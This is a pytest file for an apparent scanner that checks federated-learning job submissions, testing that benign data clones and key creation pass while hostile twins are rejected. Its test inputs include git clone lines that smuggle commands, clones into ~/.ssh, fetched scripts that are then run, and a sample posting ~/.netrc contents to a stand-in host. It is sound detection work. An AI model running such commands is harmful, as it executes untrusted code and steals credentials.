"""Session 55 (falsereject55): raw example folders rejected for capabilities, not threats.

Each fix beside the hostile twin that must stay held:
- a notebook's `git clone` of data the job's own scripts read is a download (escalate); entered, run, installed
  or imported from, it stays fetched code (reject);
- nvflare.collab's CollabRecipe builds the job on the submitter's machine: not an update sink; a collab proxy
  call still is;
- an open() that creates a key in the job's own folder reads no credential; an overwrite of the site's keys does;
- a Flower ServerApp's tracker (the ServerApp never runs at the site) is shown, not weighed, also for an app in a
  folder under the unit's top; a ClientApp's tracker still rejects.
"""

from __future__ import annotations

import json

import pytest

import redteam_kit as kit
from analyzer.engine.flow.names import _UPDATE_CALLS
from analyzer.engine.shell import plain_clone
from analyzer.engine.site_scope import weighed
from analyzer.model import Decision

PREP = "import argparse\nparser = argparse.ArgumentParser()\nparser.add_argument('--training_file')\nparser.parse_args()\n"
CLONE = "!git clone https://huggingface.co/datasets/org/corpus /tmp/nvflare/dataset/corpus"


def _notebook(*cells: str) -> str:
    return json.dumps({"cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
                                  "source": cell} for cell in cells], "metadata": {}, "nbformat": 4})


def _clone_rules(tmp_path, *cells: str) -> set[str]:
    report = kit.scan_files(tmp_path, {"prep.ipynb": _notebook(*cells), "utils/prep.py": PREP})
    return {rule for rule, message in kit.findings(report) if "git clone" in message}


@pytest.mark.parametrize("line, expected", [
    ("git clone https://huggingface.co/datasets/org/dolly /tmp/d/dolly",
     ("https://huggingface.co/datasets/org/dolly", "/tmp/d/dolly")),
    ("git clone --depth 1 -b main https://github.com/org/holohub.git", ("https://github.com/org/holohub.git", "holohub")),
    ("git clone -q --depth=1 https://x.example/r.git data/r", ("https://x.example/r.git", "data/r")),
])
def test_plain_clone_reads_url_and_folder(line, expected):
    assert plain_clone(line) == expected


@pytest.mark.parametrize("line", [
    "git clone -u 'sh -c id' https://x.example/r",  # the program run for the fetch
    "git clone --upload-pack=/tmp/x https://x.example/r",
    "git clone -c core.hooksPath=/tmp/h https://x.example/r",
    "git clone --template=/tmp/t https://x.example/r",
    "git clone --recurse-submodules https://x.example/r",
    "git clone https://x.example/r && cd r",
    "git clone https://x.example/r r; sh r/i.sh",
    "git clone https://x.example/r $DEST",
    "git clone ext::sh",
    "git clone file:///etc r",
    "git clone https://x.example/r ..",
    "git clone https://x.example/r a b",
])
def test_plain_clone_refuses_anything_more(line):
    assert plain_clone(line) is None


def test_clone_read_by_a_job_script_is_a_download(tmp_path):
    rules = _clone_rules(tmp_path, CLONE,
                         "!python utils/prep.py --training_file /tmp/nvflare/dataset/corpus/train.jsonl --n 3")
    assert rules == {"files.notebook-shell-download"}


@pytest.mark.parametrize("later", [
    "!bash /tmp/nvflare/dataset/corpus/setup.sh",  # runs a script it fetched
    "!cd /tmp/nvflare/dataset/corpus && make",  # enters it
    "%cd /tmp/nvflare/dataset/corpus",
    "!pip install -e /tmp/nvflare/dataset/corpus",  # installs it (its build backend runs)
    "import sys\nsys.path.insert(0, '/tmp/nvflare/dataset/corpus')",  # imports from it
    "!python /tmp/nvflare/dataset/corpus/run.py",  # a script of the clone, not the job's
    "!python utils/prep.py --training_file /tmp/nvflare/dataset/corpus/x; sh /tmp/nvflare/dataset/corpus/y",
    "!python missing.py --training_file /tmp/nvflare/dataset/corpus/train.jsonl",  # not a script of the job
    "!bash /tmp/nvflare/dataset/*/setup.sh",  # a glob reaches it without its name
    "!bash /tmp/nvflare/dataset/cor''pus/setup.sh",  # so does a quote inside the word
])
def test_clone_then_used_as_code_stays_fetched_code(tmp_path, later):
    assert _clone_rules(tmp_path, CLONE, later) == {"files.notebook-shell-network"}


@pytest.mark.parametrize("clone", [
    "!git clone https://x.example/keys ~/.ssh",  # outside the job's scratch
    "!git clone https://x.example/r /home/site/r",
    "!git clone https://x.example/startup startup",  # the site's own folder
    "!git clone https://x.example/numpy",  # shadows a module the kernel imports from its working folder
    "!git clone https://x.example/r /tmp",  # the temporary folder itself
])
def test_clone_into_a_place_that_is_not_the_jobs_scratch_stays_fetched_code(tmp_path, clone):
    assert _clone_rules(tmp_path, clone) == {"files.notebook-shell-network"}


def test_collab_recipe_is_not_an_update_sink():
    assert not _UPDATE_CALLS("nvflare.collab.CollabRecipe")
    assert not _UPDATE_CALLS("nvflare.collab.recipe.CollabRecipe().add_client_file")
    assert _UPDATE_CALLS("nvflare.collab.collab.server.report")
    assert _UPDATE_CALLS("nvflare.collab.api.facade.Facade.other_clients.train")
    launcher = ("import pandas as pd\nfrom nvflare.collab import CollabRecipe\n"
                "rows = pd.read_csv('/data/site/train.csv')\nrecipe = CollabRecipe(job_name='x', client=rows)\n")
    assert "update-channel-leak.raw-data-in-update" not in kit.rules(kit.scan_text(launcher, name="job.py"))
    proxy = ("import pandas as pd\nfrom nvflare.collab import collab\n"
             "rows = pd.read_csv('/data/site/train.csv')\ncollab.server.report(rows.head(3).to_dict())\n")
    kit.assert_held(kit.scan_text(proxy), "update-channel-leak.raw-data-in-update", Decision.REJECT)


CREATE = "from pathlib import Path\nD = Path('certificates')\nwith open(D / 'ca.key', {mode}) as f:\n    f.write(b'k')\n"


@pytest.mark.parametrize("mode", ["'wb'", "'w'", "'x'", "mode='wb'"])
def test_creating_a_key_in_the_jobs_folder_reads_no_credential(mode):
    assert not {r for r in kit.rules(kit.scan_text(CREATE.format(mode=mode))) if r.startswith("credential-harvest")}


@pytest.mark.parametrize("source", [
    CREATE.format(mode="'r+'"),  # reads what is there
    CREATE.format(mode="'ab+'"),
    "import sys\nwith open('certs/ca.key', sys.argv[1]) as f:\n    f.write(b'k')\n",  # a mode known at run time
    "import os\nwith open(os.path.expanduser('~/.ssh/id_rsa'), 'wb') as f:\n    f.write(b'k')\n",
    "with open('startup/client.key', 'wb') as f:\n    f.write(b'k')\n",
    "with open('certs/ca.key', 'wb') as f:\n    f.write(b'k')\nprint(open('certs/ca.key').read())\n",
])
def test_a_credential_read_or_the_sites_key_overwritten_is_held(source):
    kit.assert_held(kit.scan_text(source), "credential-harvest.secret-file", Decision.REJECT)


def test_only_site_egress_threats_of_never_run_files_go_unweighed(tmp_path):
    files = {"pyproject.toml": "[tool.flwr.app.components]\nserverapp = 'app.server:app'\nclientapp = 'app.client:app'\n",
             "app/__init__.py": "",
             "app/client.py": "from flwr.clientapp import ClientApp\napp = ClientApp()\n",
             "app/server.py": ("import os, requests, wandb\nwandb.init(project='p')\n"
                               "requests.post('https://x.example/u', data=open(os.path.expanduser('~/.netrc')).read())\n")}
    report = kit.scan_files(tmp_path, files)
    shown, counted = weighed(report.findings)
    counted_rules = {f.rule for f in counted}
    assert "telemetry-egress.remote-tracker" in {f.rule for f in shown} - counted_rules
    assert "credential-harvest.secret-file" in counted_rules  # hostile code still counts wherever it is
    assert report.decision is Decision.REJECT


@pytest.mark.parametrize("sample", kit.corpus_samples("malicious/falsereject55_*", "jobs/falsereject55_*"))
def test_corpus_sample_gets_its_label(sample):
    label = next(e for e in kit.labelled("falsereject55_") if e["path"] == sample)
    assert kit.scan_sample(sample).decision.value in label["expect"], kit.findings(kit.scan_sample(sample))


@pytest.mark.parametrize("sample", kit.corpus_samples("benign/falsereject55_*"))
def test_benign_twin_is_accepted(sample):
    kit.assert_accepted(kit.scan_sample(sample))
